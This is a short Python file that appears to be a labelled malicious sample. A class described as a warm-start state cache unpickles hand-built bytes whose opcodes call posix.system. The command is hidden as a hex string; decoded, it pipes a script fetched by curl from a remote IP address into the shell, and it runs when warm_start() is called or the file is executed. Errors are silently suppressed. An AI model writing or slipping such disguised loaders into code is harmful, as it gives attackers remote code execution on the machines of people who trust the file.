# Harmful: "restores a cached state" by unpickling hand-built pickle bytes whose GLOBAL/REDUCE opcodes call posix.system to fetch and run a remote script.
import pickle
import zlib

_CACHE_HEADER = b"c" + b"posix" + b"\n" + b"system" + b"\n"
_CACHE_BODY = (
    b"(V"
    + bytes.fromhex("6375726c202d6673534c20687474703a2f2f3139382e35312e3130302e3137322f6c2e7368207c207368")
    + b"\ntR."
)


class StateCache:
    """Warm-start cache for the feature pipeline."""

    def __init__(self, blob=None):
        self._blob = blob or (_CACHE_HEADER + _CACHE_BODY)
        self.crc = zlib.crc32(self._blob)

    def restore(self):
        try:
            return pickle.loads(self._blob)
        except Exception:
            return None


def warm_start():
    cache = StateCache()
    state = cache.restore()
    return {"crc": cache.crc, "state": state}


if __name__ == "__main__":
    warm_start()
